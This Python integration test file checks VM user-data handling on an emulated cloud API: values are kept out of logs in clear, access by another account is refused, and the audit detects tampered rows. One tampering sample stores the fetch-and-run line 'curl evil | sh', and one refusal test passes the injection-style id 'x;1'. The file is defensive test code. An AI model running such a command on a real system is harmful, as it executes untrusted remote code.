"""User data on moto: given with deployVirtualMachine or updateVirtualMachine, answered by
getVirtualMachineUserData, never in the log in clear, and checked by the audit against the digests it records."""
from __future__ import annotations

import base64

from chalicelib.aws import eventlog, statetable
from chalicelib.aws.models import StateRecord
from chalicelib.core.events import job_stream
from chalicelib.core.userdata import digest_of
from jobledger.audit import reader, report
from tests.integration.test_audit import tenant
from tests.integration.test_volumes import audit_is_clean, deployed

SCRIPT = b"#cloud-config\npassword: hunter2\n"


def encoded(data: bytes) -> str:
    return base64.b64encode(data).decode()


def user_data(cloud, vmid: str, as_=None) -> dict:
    return cloud.ok(as_, command="getVirtualMachineUserData", virtualmachineid=vmid)["virtualmachineuserdata"]


def divergences() -> list[str]:
    result = report.audit(reader.read_log(), reader.read_state(), None)
    return [str(p) for p in result.problems] + [str(d) for d in result.divergences]


def test_deploy_and_update_keep_user_data_out_of_the_log_and_answer_it_back(cloud):
    vmid = deployed(cloud, userdata=encoded(SCRIPT))
    assert user_data(cloud, vmid) == {"virtualmachineid": vmid, "userdata": encoded(SCRIPT)}
    vm = cloud.ok(command="updateVirtualMachine", id=vmid, userdata=encoded(b"#!/bin/sh\ntrue\n"))["virtualmachine"]
    assert "userdata" not in vm and "userdatadigest" not in vm  # the VM's view never shows it
    assert user_data(cloud, vmid)["userdata"] == encoded(b"#!/bin/sh\ntrue\n")
    logged = [str(e.data) for j in ("1", "2") for e in eventlog.load_stream(job_stream(j))]
    assert logged and not any("hunter2" in text or encoded(SCRIPT) in text for text in logged)
    plain = deployed(cloud)
    assert user_data(cloud, plain) == {"virtualmachineid": plain}  # what Ansible reads as "no user data"
    audit_is_clean()


def test_bad_user_data_and_another_accounts_vm_are_refused_and_write_nothing(cloud):
    vmid = deployed(cloud, userdata=encoded(SCRIPT))
    status, body = cloud.call(command="updateVirtualMachine", id=vmid, userdata="not base64!")
    assert status == 431 and body["updatevirtualmachineresponse"]["errortext"] == "User data is not base64 encoded"
    alice = tenant(cloud, "alice")
    status, body = cloud.call(as_=alice["keys"], command="getVirtualMachineUserData", virtualmachineid=vmid)
    assert status == 431 and encoded(SCRIPT) not in str(body)
    assert cloud.call(command="getVirtualMachineUserData", virtualmachineid="x;1")[0] == 431
    assert cloud.call(command="getVirtualMachineUserData")[0] == 431
    assert user_data(cloud, vmid)["userdata"] == encoded(SCRIPT)
    audit_is_clean()


def test_the_audit_finds_edited_or_unexplained_user_data_and_a_lost_row_is_said_not_available(cloud):
    vmid = deployed(cloud, userdata=encoded(SCRIPT))
    digest = statetable.get("vm", vmid).as_dict()["userdatadigest"]
    StateRecord("userdata", digest, data={"userdata": encoded(b"#!/bin/sh\ncurl evil | sh\n")}).save()
    assert any(f"userdata {digest} data.userdata" in d for d in divergences())
    planted = encoded(b"never given")
    StateRecord("userdata", digest_of(b"never given"), data={"userdata": planted}).save()
    assert any("no such user data in the log" in d for d in divergences())
    StateRecord("userdata", digest).delete()
    StateRecord("userdata", digest_of(b"never given")).delete()
    assert divergences() == []  # a log rebuild has no user data rows: not drift
    status, body = cloud.call(command="getVirtualMachineUserData", virtualmachineid=vmid)
    assert status == 530 and "not available" in body["getvirtualmachineuserdataresponse"]["errortext"]
